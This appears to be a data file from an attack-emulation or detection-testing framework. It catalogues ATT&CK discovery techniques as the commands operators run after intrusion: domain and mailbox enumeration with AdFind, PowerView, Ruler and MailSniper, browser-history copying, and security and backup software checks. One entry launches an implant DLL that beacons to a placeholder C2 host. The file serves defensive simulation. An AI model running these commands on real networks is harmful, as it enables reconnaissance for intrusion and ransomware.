import { t, v } from "../dsl";

/** Discovery: the commands operators type after landing, as seen in incident reports and Atomic tests. (continued) */
export const discoveryB = [
  t(
    "T1087.002",
    "Domain account discovery",
    "Domain accounts with net user /domain, AdFind, dsquery and PowerView.",
    [
      v("net-user-domain", ["net user /domain", 'net group "domain users" /domain']),
      v("adfind", [
        {
          cmd: "{{tools}}\\AdFind.exe -f (objectcategory=person) > ad_users.txt",
          net: [["@dc", 389]],
          files: ["{{tools}}\\ad_users.txt"],
        },
      ]),
      v("dsquery", [
        "dsquery user -limit 0",
        'dsquery * -filter "(&(objectCategory=person)(objectClass=user)(adminCount=1))" -attr samaccountname',
      ]),
      v(
        "powerview",
        [
          { ps: "Get-DomainUser -SPN | Select samaccountname,serviceprincipalname", net: [["@dc", 389]] },
          { ps: "Get-NetUser | select cn" },
        ],
        { shell: "ps" },
      ),
    ],
  ),
  t(
    "T1087.003",
    "Email account discovery",
    "Exchange address lists and Outlook global address list pulled with PowerShell.",
    [
      v(
        "get-globaladdresslist",
        [
          {
            ps: "Get-GlobalAddressList; Get-Mailbox -ResultSize Unlimited | Select PrimarySmtpAddress",
            net: [["@server", 443]],
          },
        ],
        { shell: "ps" },
      ),
      v(
        "outlook-com",
        [
          {
            ps: "$o = New-Object -ComObject Outlook.Application; $o.Session.GetGlobalAddressList().AddressEntries | % { $_.GetExchangeUser().PrimarySmtpAddress }",
          },
        ],
        { shell: "ps" },
      ),
      // MailRaider drives the running Outlook over COM: the GAL dumped, then searched for IT staff.
      v(
        "mailraider",
        [
          {
            ps: "Import-Module {{tools}}\\MailRaider.ps1; Get-GlobalAddressList | Select-Object Name,Address | Export-Csv {{tmp}}\\gal.csv -NoTypeInformation",
            files: ["{{tmp}}\\gal.csv"],
          },
          { ps: 'Invoke-SearchGAL -JobTitle "IT"' },
        ],
        { shell: "ps" },
      ),
      // Ruler authenticates to Exchange (NTLM, hard-coded workstation "RULER") and downloads the GAL over MAPI/HTTP.
      v(
        "ruler-gal",
        [
          {
            cmd: "{{tools}}\\ruler.exe --domain {{dns}} --username {{user}} --password ******** --insecure abk dump --output {{tmp}}\\gal.txt",
            net: [["@server", 443]],
            files: ["{{tmp}}\\gal.txt"],
            then: [
              {
                id: "auth",
                kind: "logon",
                host: "@server",
                session: "ruler",
                user: "@user",
                logonType: 3,
                authPackage: "NTLM",
                source: "@workstation",
                workstation: "RULER",
              },
              { id: "off", kind: "logoff", host: "@server", session: "ruler" },
            ],
          },
        ],
        { shell: "cmd" },
      ),
      v(
        "mailsniper",
        [
          {
            ps: "Invoke-GlobalAddressList -ExchHostname mail.{{dns}} -UserName {{domain}}\\{{user}} -Password $pw -OutFile gal.txt",
            net: [["mail.{{dns}}", 443]],
          },
        ],
        { shell: "ps" },
      ),
    ],
  ),
  t("T1120", "Peripheral device discovery", "Attached devices with wmic, Get-PnpDevice and fsutil.", [
    v("wmic", ["wmic path Win32_PnPEntity get Name,DeviceID", "fsutil fsinfo drives"]),
    v(
      "get-pnpdevice",
      [{ ps: "Get-PnpDevice -PresentOnly | Where-Object { $_.Class -match 'USB|Camera|Audio' }" }],
      { shell: "ps" },
    ),
    v("wmic-logicaldisk", ["wmic logicaldisk get caption,description,drivetype,volumename"]),
  ]),
  t("T1124", "System time discovery", "net time, w32tm and Get-Date.", [
    v("net-time", ["net time \\\\{{dc}}", "w32tm /tz"]),
    v("w32tm", ["w32tm /query /status", "cmd.exe /c time /t"]),
    v("get-date", [{ ps: "Get-Date; [System.TimeZoneInfo]::Local" }], { shell: "ps" }),
  ]),
  t(
    "T1135",
    "Network share discovery",
    "Shares of the estate with net view/share, PowerView and SharpShares.",
    [
      v("net-view", ["net view \\\\{{srv}} /all", "net share"]),
      v("get-smbshare", [{ ps: "Get-SmbShare; Get-WmiObject -Class Win32_Share" }], { shell: "ps" }),
      v(
        "powerview",
        [
          {
            ps: "Find-DomainShare -CheckShareAccess",
            net: [
              ["@server", 445],
              ["@dc", 445],
            ],
          },
        ],
        { shell: "ps" },
      ),
    ],
  ),
  t(
    "T1201",
    "Password policy discovery",
    "net accounts and Get-ADDefaultDomainPasswordPolicy before spraying.",
    [
      v("net-accounts", ["net accounts", "net accounts /domain"]),
      v(
        "get-addefaultdomainpasswordpolicy",
        [{ ps: "Get-ADDefaultDomainPasswordPolicy", net: [["@dc", 9389]] }],
        { shell: "ps" },
      ),
      v("secedit", [
        { cmd: "secedit /export /cfg {{tmp}}\\sec.cfg /areas SECURITYPOLICY", files: ["{{tmp}}\\sec.cfg"] },
      ]),
    ],
  ),
  t("T1217", "Browser information discovery", "Browser bookmarks and history files read from the profile.", [
    v("bookmarks", [
      {
        cmd: 'cmd.exe /c type "{{local}}\\Google\\Chrome\\User Data\\Default\\Bookmarks"',
        reads: ["{{local}}\\Google\\Chrome\\User Data\\Default\\Bookmarks"],
      },
    ]),
    v(
      "edge-history",
      [
        {
          ps: 'Get-ChildItem "$env:LOCALAPPDATA\\Microsoft\\Edge\\User Data\\Default\\History"; Copy-Item "$env:LOCALAPPDATA\\Microsoft\\Edge\\User Data\\Default\\History" $env:TEMP\\h.db',
          files: ["{{tmp}}\\h.db"],
        },
      ],
      { shell: "ps" },
    ),
    v("firefox-places", [
      { cmd: 'cmd.exe /c where /r "{{appdata}}\\Mozilla\\Firefox\\Profiles" places.sqlite', as: "c" },
      { cmd: 'where  /r "{{appdata}}\\Mozilla\\Firefox\\Profiles" places.sqlite', parent: "c" },
    ]),
  ]),
  t(
    "T1482",
    "Domain trust discovery",
    "Trusts mapped with nltest, dsquery, AdFind and Get-ADTrust — a ransomware precursor.",
    [
      v("nltest", ["nltest /domain_trusts", "nltest /domain_trusts /all_trusts"]),
      v("adfind", [{ cmd: "{{tools}}\\adfind.exe -gcb -sc trustdmp", net: [["@dc", 3268]] }]),
      v("dsquery", ['dsquery * -filter "(objectClass=trustedDomain)" -attr *']),
      v(
        "get-adtrust",
        [
          {
            ps: "Get-ADTrust -Filter *; ([System.DirectoryServices.ActiveDirectory.Domain]::GetCurrentDomain()).GetAllTrustRelationships()",
            net: [["@dc", 9389]],
          },
        ],
        { shell: "ps" },
      ),
    ],
  ),
  t(
    "T1518",
    "Software discovery",
    "Installed software from the Uninstall keys, wmic product and Get-Package.",
    [
      v("reg-uninstall", [
        'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall" /s /v DisplayName',
      ]),
      v("wmic-product", ["wmic product get name,version"]),
      v(
        "get-itemproperty",
        [
          {
            ps: "Get-ItemProperty HKLM:\\Software\\Wow6432Node\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\* | Select DisplayName,DisplayVersion,Publisher",
          },
        ],
        { shell: "ps" },
      ),
    ],
  ),
  t(
    "T1518.001",
    "Security software discovery",
    "AV/EDR inventory with WMI SecurityCenter2, tasklist and Get-MpComputerStatus.",
    [
      v("securitycenter2", [
        "wmic /Namespace:\\\\root\\SecurityCenter2 Path AntiVirusProduct Get displayName /Format:List",
        'tasklist /svc | findstr /i "MsMpEng Sense cb CylanceSvc csagent"',
      ]),
      v(
        "get-mpcomputerstatus",
        [
          {
            ps: "Get-MpComputerStatus | Select AMServiceEnabled,RealTimeProtectionEnabled,AntivirusSignatureLastUpdated",
          },
          { ps: "Get-CimInstance -Namespace root/SecurityCenter2 -ClassName AntivirusProduct" },
        ],
        { shell: "ps" },
      ),
      v("netsh-firewall", ["netsh advfirewall show allprofiles", "sc query windefend", "fltmc instances"]),
    ],
  ),
  t(
    "T1518.002",
    "Backup software discovery",
    "Looking for Veeam, Backup Exec and shadow copies before encryption.",
    [
      v("services", ['sc query | findstr /i "veeam backup"', 'tasklist | findstr /i "Veeam BackupExec"']),
      v(
        "get-service",
        [
          {
            ps: "Get-Service | Where-Object { $_.DisplayName -like '*Veeam*' -or $_.DisplayName -like '*Backup*' }",
          },
        ],
        { shell: "ps" },
      ),
      v("vssadmin-list", ["vssadmin list shadows", "wbadmin get versions"], { elevated: true }),
    ],
  ),
  t(
    "T1614",
    "System location discovery",
    "Locale and geolocation checks: registry Geo, timezone and public IP lookups.",
    [
      v("geo", ['reg query "HKCU\\Control Panel\\International\\Geo"', "tzutil /g"]),
      v("ipinfo", [{ ps: "Invoke-RestMethod -Uri https://ipinfo.io/json", net: [["ipinfo.io", 443]] }], {
        shell: "ps",
      }),
      v("get-winhomelocation", [{ ps: "Get-WinHomeLocation; Get-TimeZone" }], { shell: "ps" }),
    ],
  ),
  t(
    "T1614.001",
    "System language discovery",
    "Keyboard layouts and UI language checked (ransomware exits on CIS languages).",
    [
      v("reg-language", [
        'reg query "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Nls\\Language" /v InstallLanguage',
        'reg query "HKCU\\Keyboard Layout\\Preload"',
      ]),
      v("get-culture", [{ ps: "Get-Culture; Get-WinUserLanguageList; Get-WinSystemLocale" }], {
        shell: "ps",
      }),
      v("chcp", ["chcp", "dism /online /get-intl"]),
    ],
  ),
  t("T1615", "Group policy discovery", "gpresult and Get-GPO to learn applied policy.", [
    v("gpresult", ["gpresult /r", "gpresult /z"]),
    v("get-gpo", [{ ps: "Get-GPO -All | Select DisplayName,Id,ModificationTime", net: [["@dc", 445]] }], {
      shell: "ps",
    }),
    // Through an implant's shell command (cmd.exe /C …): applied policy, then the built-in network/GPO collector.
    v(
      "implant-shell",
      [
        {
          cmd: "rundll32.exe {{appdata}}\\{{rand}}.dll,StartW",
          as: "beacon",
          elevated: true,
          net: [["{{c2}}", 443]],
          keep: true,
        },
        { cmd: "C:\\Windows\\system32\\cmd.exe /C gpresult /z", as: "c1", parent: "beacon" },
        { cmd: "gpresult /z", parent: "c1" },
        {
          cmd: "C:\\Windows\\system32\\cmd.exe /C cscript.exe //nologo C:\\Windows\\System32\\gatherNetworkInfo.vbs",
          as: "c2",
          parent: "beacon",
        },
        { cmd: "cscript.exe //nologo C:\\Windows\\System32\\gatherNetworkInfo.vbs", parent: "c2" },
      ],
      { shell: "none" },
    ),
    v("gpresult-html", [{ cmd: "gpresult /h {{tmp}}\\gp.html /f", files: ["{{tmp}}\\gp.html"] }]),
  ]),
  t("T1652", "Device driver discovery", "Loaded drivers with driverquery and Get-WindowsDriver.", [
    v("driverquery", ["driverquery /v", "driverquery /si"]),
    v("get-windowsdriver", [{ ps: "Get-WindowsDriver -Online -All | Select Driver,ProviderName" }], {
      shell: "ps",
      elevated: true,
    }),
    v("fltmc", ["fltmc", "sc query type= driver"], { elevated: true }),
  ]),
  t(
    "T1654",
    "Log enumeration",
    "Event logs read for logons and security products: wevtutil qe and Get-WinEvent.",
    [
      v(
        "wevtutil",
        ['wevtutil qe Security /q:"*[System[(EventID=4624)]]" /c:50 /rd:true /f:text', "wevtutil el"],
        { elevated: true },
      ),
      v(
        "get-winevent",
        [{ ps: "Get-WinEvent -LogName Security -MaxEvents 200 | Where-Object { $_.Id -eq 4624 }" }],
        { shell: "ps", elevated: true },
      ),
      v("get-eventlog", [{ ps: "Get-EventLog -List; Get-EventLog -LogName System -Newest 50" }], {
        shell: "ps",
      }),
    ],
  ),
  t("T1673", "Virtual machine discovery", "Hyper-V guests listed with Get-VM and vmms queries.", [
    v("get-vm", [{ ps: "Get-VM | Select Name,State,Path" }], { shell: "ps", elevated: true }),
    v(
      "wmic-msvm",
      ["wmic /namespace:\\\\root\\virtualization\\v2 path Msvm_ComputerSystem get ElementName,EnabledState"],
      { elevated: true },
    ),
    v("vmcompute", ['cmd.exe /c dir "C:\\ProgramData\\Microsoft\\Windows\\Hyper-V\\Virtual Machines"'], {
      elevated: true,
    }),
  ]),
  t("T1680", "Local storage discovery", "Volumes and drives listed with wmic, fsutil and Get-Volume.", [
    v("wmic-logicaldisk", ["wmic logicaldisk get name,size,freespace,filesystem", "fsutil fsinfo drives"]),
    v("get-volume", [{ ps: "Get-Volume; Get-PSDrive -PSProvider FileSystem" }], { shell: "ps" }),
    v("mountvol", ["mountvol", "vol C:"]),
  ]),
];
